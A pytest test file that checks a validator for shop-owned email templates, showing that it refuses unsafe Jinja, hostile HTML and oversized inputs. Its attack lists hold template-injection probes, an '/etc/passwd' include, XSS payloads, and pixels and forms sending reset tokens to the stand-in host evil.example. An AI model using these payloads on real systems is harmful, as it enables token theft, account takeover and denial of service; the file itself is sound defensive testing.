"""Own email templates: what is refused when they are saved, and what they may send."""

import pytest

from app.adapters.own_templates import check_template, render_template
from app.domain.mails.mail import MailKind
from app.domain.mails.own_templates import (
    MAX_OUTPUT,
    VALUES,
    OwnTemplate,
    ValueType,
    sample_texts,
)
from app.domain.urls.redirects import redirect_problem
from app.domain.values.errors import Problem
from app.ports.mail import OwnTemplateBroken
from tests.hostile.cpu import bound, slowest

LINK = "https://shop.example.com/reset?email=a%40b&token=se<same"
TEXT = "Hello,\n\n{{ link }}\n"
HTML = '<p>Hello {{ recipient }}, <a href="{{ link }}">choose a password</a>.</p>\n'
NOTICE = "Hello\n{% if not_me %}\n{{ not_me }}\n{% endif %}\n"


def url_rule(url: str) -> Problem | None:
    return redirect_problem(url, ("shop.example.com",), development=False)


def problems(
    kind: MailKind = MailKind.PASSWORD_RESET,
    *,
    subject: str = "Reset your password",
    html: str = HTML,
    text: str = TEXT,
) -> tuple[Problem, ...]:
    return check_template(kind, OwnTemplate(subject, html, text), url_rule)


def only_problem(**sources: str) -> Problem:
    found = problems(**sources)  # type: ignore[arg-type]
    assert found, sources
    return found[0]


def notice(html: str) -> tuple[Problem, ...]:
    return problems(MailKind.PASSWORD_CHANGED, html=html, text=NOTICE)


NOT_ME = '{% if not_me %}<p><a href="{{ not_me }}">Not me</a></p>{% endif %}'
ATTACKS = [
    "{{ shop.__class__ }}",
    "{{ shop.name.__class__.__mro__ }}",
    "{{ recipient.__class__ }}",
    "{{ ''.__class__ }}",
    "{{ shop['name'] }}",
    "{{ recipient[0] }}",
    "{{ details[::1] }}",
    "{{ recipient.upper() }}",
    "{{ range(10) }}",
    "{{ lipsum() }}",
    "{{ cycler('a') }}",
    "{{ namespace() }}",
    "{{ self }}",
    "{{ self.body() }}",
    "{{ config }}",
    "{{ settings }}",
    "{{ request }}",
    "{{ loop.index }}",
    "{{ 'a' * 1000000 }}",
    "{{ 2 ** 999999999 }}",
    "{{ -left }}",
    "{{ recipient ~ recipient }}",
    "{{ 'text' }}",
    "{{ 'text'|upper }}",
    "{{ 1 }}",
    "{{ [1, 2] }}",
    "{{ (1, 2) }}",
    "{{ {'a': 1} }}",
    "{{ recipient if when else when }}",
    "{{ recipient is defined }}",
    "{{ recipient|safe }}",
    "{{ recipient|e|safe }}",
    "{{ recipient|attr('__class__') }}",
    "{{ '%s'|format(recipient) }}",
    "{{ recipient|center(99999999) }}",
    "{{ recipient|truncate(99999999) }}",
    "{{ recipient|replace('a', 'b') }}",
    "{{ recipient|default(when) }}",
    "{{ recipient|default('x', true) }}",
    "{{ recipient|default(*details) }}",
    "{{ recipient|default(**shop) }}",
    "{{ details|join(',', attribute='__class__') }}",
    "{{ details|join(',', '__class__') }}",
    "{{ details|map('upper')|list }}",
    "{{ recipient|default('https://evil.example') }}",
    "{{ not_me|upper }}",
    "{{ not_me|length }}",
    "{{ details }}",
    "{{ unknown }}",
    "{{ shop }}",
    "{{ shop.mail_url }}",
    "{% if not_me == 'x' %}{% endif %}",
    "{% if not_me < 'https://shop.example.com/b' %}{% endif %}",
    "{% if 'a' in not_me %}{% endif %}",
    "{% if not_me|length > 3 %}{% endif %}",
    "{% if range(9999999) %}{% endif %}",
    "{% if recipient.__class__ %}{% endif %}",
    "{% for item in range(9) %}{% endfor %}",
    "{% for item in recipient %}{% endfor %}",
    "{% for item in not_me %}{% endfor %}",
    "{% for item in shop %}{% endfor %}",
    "{% for item in details if item %}{% endfor %}",
    "{% for item in details recursive %}{{ loop(details) }}{% endfor %}",
    "{% for a in details %}{% for b in details %}{% endfor %}{% endfor %}",
    "{% for a, b in details %}{% endfor %}",
    "{% for not_me in details %}{% endfor %}",
    "{% for shop in details %}{% endfor %}",
    "{% for loop in details %}{% endfor %}",
    "{% for item in details %}{{ item.__class__ }}{% endfor %}",
    "{% for item in details %}{{ not_me }}{% endfor %}",
    "{% for item in details %}{% else %}a{% endfor %}",
    "{% set link = 'https://evil.example' %}",
    "{% set x %}a{% endset %}",
    "{% macro m() %}a{% endmacro %}",
    "{% call m() %}a{% endcall %}",
    "{% filter upper %}a{% endfilter %}",
    "{% filter safe %}<b>{% endfilter %}",
    "{% block body %}a{% endblock %}",
    "{% extends 'mail/layout.html' %}",
    "{% include '/etc/passwd' %}",
    "{% import 'mail/parts.html' as parts %}",
    "{% from 'mail/parts.html' import button %}",
    "{% with a = recipient %}{{ a }}{% endwith %}",
    "{% autoescape false %}{{ recipient }}{% endautoescape %}",
    "{% do recipient %}",
    "{% trans %}a{% endtrans %}",
    "{% debug %}",
    "{% raw %}{{ recipient }}{% endraw %}",
    "{% raw %}<script>{% endraw %}",
    "{% if recipient %}",
    "{% endif %}",
    "{{ recipient",
    "{% if",
    "{# no end",
    "{{ }}",
    "{{ recipient }} }}{{",
    "{{ 9" + "9" * 5000 + " }}",
]
"""What Jinja would do beyond the subset; each in a text, where ``{{ not_me }}`` exists."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_jinja_beyond_the_subset_is_refused_with_line_and_reason(attack: str) -> None:
    found = problems(MailKind.PASSWORD_CHANGED, html=NOT_ME, text=f"{NOTICE}\n{attack}")
    assert found
    assert {problem.field for problem in found} == {"text"}
    assert found[0].code == "INVALID"
    assert found[0].lines
    assert found[0].message.endswith((".", "?"))


def test_line_of_a_fault_is_the_one_that_the_author_sees() -> None:
    text = "One\n{% if recipient %}\nthree\n{% endif %}\n{# a\ncomment #}\n{{ link }}\n{{ bad }}\n"
    assert only_problem(text=text).lines == (8,)
    html = HTML + "\n<p>\n{% if recipient %}\n  <p>\n  <script>\n{% endif %}"
    assert only_problem(html=html).lines == (6,)


LOADS = [
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="https://shop.example.com/pixel.png">',
    '<img src="cid:logo@mail" srcset="https://evil.example/a 2x">',
    '<img src="{{ link }}">',
    '<img src="https://evil.example/?{{ link }}">',
    '<table background="https://evil.example/a"></table>',
    '<p style="background:url(https://evil.example/a)">a</p>',
    '<p style="background:u\\72l(https://evil.example/a)">a</p>',
    '<p style="background:&#117;rl(https://evil.example/a)">a</p>',
    "<p style=\"background:image-set('https://evil.example/a' 1x)\">a</p>",
    '<p style="width:expression(alert(1))">a</p>',
    '<p style="{{ recipient }}">a</p>',
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@font-face { font-family: a; src: url(https://evil.example) }</style>",
    "<style>a { background: URL(https://evil.example) }</style>",
    "<style>{{ recipient }}</style>",
    "<style>a {",
    "<style>{% if recipient %}a{% endif %}</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<script>alert(1)</script>",
    "<script src='https://evil.example/a.js'></script>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object>',
    '<video src="https://evil.example"></video>',
    "<svg><image href='https://evil.example'/></svg>",
    '<form action="https://evil.example"><input name="t" value="{{ link }}"></form>',
    "<button>a</button>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<p onclick="alert(1)">a</p>',
    "<p onmouseover='alert(1)'>a</p>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java&#115;cript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="data:text/html,a">a</a>',
    '<a href="vbscript:a">a</a>',
    '<a href="https://evil.example/">a</a>',
    '<a href="https://shop.example.com@evil.example/">a</a>',
    '<a href="https://shop.example.com.evil.example/">a</a>',
    '<a href="//evil.example/">a</a>',
    '<a href="http://shop.example.com/">a</a>',
    '<a href="https://evil.example/?{{ link }}">a</a>',
    '<a href="{{ link }}@evil.example">a</a>',
    '<a href=" {{ link }}">a</a>',
    '<a href="{{ recipient }}">a</a>',
    "<a href={{ link }}>a</a>",
    '<a href="{% if recipient %}{{ link }}{% endif %}">a</a>',
    '<a {{ recipient }}="a">a</a>',
    '<a href="#" href="https://evil.example/">a</a>',
    '<a title="{{ link }}" href="#">a</a>',
    '<a href="https://shop.example.com/">{{ link }}</a>',
    '<a href="https://shop.example.com/"><a href="{{ link }}">a</a></a>',
    '<a href="#">{% if recipient %}{{ link }}{% endif %}</a>',
    "<p>https://evil.example/?token={{ link }}</p>",
    "<p>https://evil.example/?token=<b>{{ link }}</b></p>",
    "<p>https://evil.example/?token={# #}{{ link }}</p>",
    "<p>https://shop.example.com/{{ link }}</p>",
    "<p>shop.example/?token={{ link }}</p>",
    "<p>shop.example/?token={% if link %}{{ link }}{% endif %}</p>",
    "<p>{% if recipient %}evil.example/{% else %} {% endif %}{{ link }}</p>",
    "<p>{{ recipient }}{{ link }}</p>",
    "<p>evil.example/?&nbsp;{{ link }}</p>",
    "<p>Visit https://evil.example/ now</p>",
    "<p>Visit &#104;ttps://evil.example/ now</p>",
    "<p>Visit www.evil.example now</p>",
    "<p>https://{{ shop.name }}/</p>",
    "<!-- <script> -->",
    "<!-- {{ link }} -->",
    "<!--[if mso]><a href='https://evil.example'>a</a><![endif]-->",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!-- no end",
    "<![CDATA[ a ]]>",
    "<?php a ?>",
    "<p",
    "<p title='a",
    "<p title=a>a</p>",
    "<p/title='a'>a</p>",
    "< script>alert(1)</script>",
    "<scr{# #}ipt>alert(1)</scr{# #}ipt>",
    "<scr{% if recipient %}ipt>{% endif %}",
    "<p>a < b</p>",
    "<html><body></body></html>",
    "<p>\ue000</p>",
    "<p>\u202etxet</p>",
    "<math></math>",
    "<template></template>",
    "<noscript></noscript>",
    "<plaintext>",
    "<xmp></xmp>",
    "<textarea></textarea>",
    "</script>",
    "<x-y></x-y>",
]
"""HTML that loads, runs, sends or misleads; each beside a template that is fine."""


@pytest.mark.parametrize("attack", LOADS)
def test_html_that_loads_runs_or_misleads_is_refused(attack: str) -> None:
    found = problems(html=f"{HTML}\n{attack}")
    assert found
    assert {problem.field for problem in found} == {"html"}
    assert found[0].lines
    assert found[0].lines[0] >= 2
    assert found[0].message


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?t={{ link }}",
        "https://shop.example.com/\n{{ link }}\nVisit https://evil.example",
        "Visit www.evil.example {{ link }}",
        "evil.example/?t={{ link }}",
        "{{ recipient }}{{ link }}",
        "{% if recipient %}evil.example/?{% endif %}{{ link }}",
        "<{{ link }}",
        "{{ link }}\nftp://evil.example",
        "Hello",
        "{% if recipient == 'ann@example.com' %}\n{{ link }}\n{% endif %}",
        "{% if link %}Hello{% else %}\n{{ link }}\n{% endif %}",
    ],
)
def test_text_with_a_changed_or_missing_link_is_refused(text: str) -> None:
    assert only_problem(text=text).field == "text"


def test_html_needs_the_link() -> None:
    problem = only_problem(html="<p>Hello</p>")
    assert (problem.field, "{{ link }}" in problem.message) == ("html", True)
    assert notice("<p>Your password was changed.</p>")
    assert not notice(NOT_ME)


@pytest.mark.parametrize("subject", ["{{ link }}", "", " ", "a" * 501, "{{ bad }}"])
def test_subject_is_short_and_without_links(subject: str) -> None:
    assert only_problem(subject=subject).field == "subject"


def test_subject_is_one_line() -> None:
    template = OwnTemplate("Hello\r\nBcc: {{ recipient }}", HTML, TEXT)
    texts = {"link": LINK, "recipient": "a@example.com\nBcc: b@example.com"}
    written = render_template(MailKind.PASSWORD_RESET, template, texts, shop_name="Shop")
    assert written.subject == "Hello Bcc: a@example.com Bcc: b@example.com"


@pytest.mark.parametrize(
    "source",
    [
        "a" * 1_000_000,
        "{{ recipient }}" * 4_300,
        "{" * 60_000,
        "{{" * 30_000,
        "{{ " + "(" * 60_000,
        "{{ " + "[" * 60_000,
        "{% if " + "not " * 16_000 + "recipient %}{% endif %}",
        "{% if recipient" + " and recipient" * 4_000 + " %}{% endif %}",
        "{% if recipient %}" * 3_000 + "{% endif %}" * 200,
        "{% if recipient %}" * 1_000 + "{% endif %}" * 1_000,
        "{% if recipient %}a" + "{% elif recipient %}a" * 2_500 + "{% endif %}",
        "{{ recipient" + "|upper" * 10_000 + " }}",
        "{{ recipient" + ".a" * 30_000 + " }}",
        "{{ '" + "\\" * 60_000,
        "{#" * 30_000,
        "{% raw %}" * 7_000,
        "<" * 60_000,
        "<p " + "a " * 30_000,
        "<p " + 'a="b" ' * 10_000,
        "<p" + " " * 60_000,
        "<!--" + "-" * 60_000,
        "<!--" * 15_000,
        "<style>" * 9_000,
        "<style>" + "a" * 60_000 + "(</style>",
        "<style>" + "-" * 60_000 + "</style>",
        "http:" * 12_000,
        "a:/" * 20_000,
        "www." * 15_000,
        "a" * 30_000 + "www." * 5_000,
        "&#" * 30_000,
        "\n" * 60_000 + "<p>" * 1_000,
        "{{ recipient }}\n" * 1_900 + "<b>" * 10_000 + "<script>",
    ],
)
def test_huge_and_deep_sources_are_checked_within_bounded_time(source: str) -> None:
    taken = slowest(lambda: problems(html=HTML + source, text=TEXT + source))
    assert taken < bound()
    if "(" in source or "<script>" in source or len(source) > 64 * 1024:
        assert problems(html=HTML + source)


def test_output_is_capped() -> None:
    text = TEXT + "{% for item in details %}" + "{{ shop.name }}" * 900 + "{% endfor %}"
    text = text.replace("link", "not_me")
    template = OwnTemplate("Hello", NOT_ME, text)
    texts = sample_texts(MailKind.PASSWORD_CHANGED)
    with pytest.raises(OwnTemplateBroken, match="larger than 256 kB"):
        render_template(MailKind.PASSWORD_CHANGED, template, texts, shop_name="n" * 256)
    fits = render_template(MailKind.PASSWORD_CHANGED, template, texts, shop_name="Shop")
    assert len(fits.text) < MAX_OUTPUT


def test_values_are_escaped_in_html_alone() -> None:
    template = OwnTemplate("Hi {{ recipient }}", HTML, TEXT)
    texts = {"link": LINK, "recipient": '<b onclick="a">&'}
    written = render_template(MailKind.PASSWORD_RESET, template, texts, shop_name="Shop")
    assert "<b" not in written.html
    assert 'href="https://shop.example.com/reset?email=a%40b&amp;token=se&lt;same"' in written.html
    assert LINK in written.text
    assert written.subject == 'Hi <b onclick="a">&'


GOOD_HTML = """<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width">
    <meta name="color-scheme" content="light dark">
    <title>{{ shop.name }}</title>
    <style>
      /* The shop's colours */
      @media (prefers-color-scheme: dark) and (min-width: 600px) { p { color: rgb(1, 2, 3) } }
      a:not(.x) { width: calc(100% - 2px); color: #0b5563 !important }
    </style>
  </head>
  <body style="margin:0" class='a'>
    <!-- The header - ours -->
    <img src="cid:logo@mail" alt="" width="40" height="40"/>
    <table role="presentation" cellpadding="0"><tr><td align="center">
    {% if when and (device or not address) and recipient != "x" %}
      <ul>{% for line in details %}<li>{{ loop.index }}. {{ line|truncate(40) }}</li>
      {% endfor %}</ul>
    {% elif details|length == 2 %}<br>{% else %}<hr/>{% endif %}
    <p>It's 1 &gt; 0 &amp; Fran&ccedil;ois &#8211; {{ device|default("unknown")|upper }}
       {{ details|join(", ") }}</p>
    {% if not_me %}
      <p><a href="{{ not_me }}" target="_blank" style='color:red'>{{ not_me }}</a></p>
      <p>Or open {{ not_me }}.</p>
    {% endif %}
    <a href="https://shop.example.com/help">Help</a>
    <a href="mailto:help@shop.example.com">Mail</a>
    <a href="tel:+4930123456">Call</a> https://shop.example.com/terms.
    </td></tr></table>
  </body>
</html>
"""


def test_whole_page_with_all_that_is_possible_is_accepted() -> None:
    assert notice(GOOD_HTML) == ()
    kind, template = MailKind.PASSWORD_CHANGED, OwnTemplate("Changed", GOOD_HTML, NOTICE)
    full = render_template(kind, template, sample_texts(kind), shop_name="A & B").html
    assert "<title>A &amp; B</title>" in full
    assert "<li>1. March 2, 2026 at 14:03 UTC</li>" in full
    assert "<li>2. Firefox on Linux</li>" in full
    assert "FIREFOX" in full
    assert full.count(sample_texts(kind)["not_me"]) == 3
    fewest = sample_texts(kind) | {"not_me": "", "device": ""}
    least = render_template(kind, template, fewest, shop_name="A & B").html
    assert "UNKNOWN" in least
    assert "<br>" in least
    assert "token" not in least


@pytest.mark.parametrize("kind", list(MailKind))
def test_every_documented_value_can_be_shown(kind: MailKind) -> None:
    shown = []
    for name, value in VALUES[kind].items():
        is_list = value.type is ValueType.LIST
        shown.append(f"{{{{ {name}|join(', ') }}}}" if is_list else f"{{{{ {name} }}}}")
    source = "\n".join(shown)
    template = OwnTemplate("{{ shop.name }}", f"<p>{source}</p>", source)
    assert check_template(kind, template, url_rule) == ()
    written = render_template(kind, template, sample_texts(kind), shop_name="Northlight Ceramics")
    for value in VALUES[kind].values():
        samples = value.sample if isinstance(value.sample, tuple) else (value.sample,)
        assert all(sample in written.text for sample in samples)
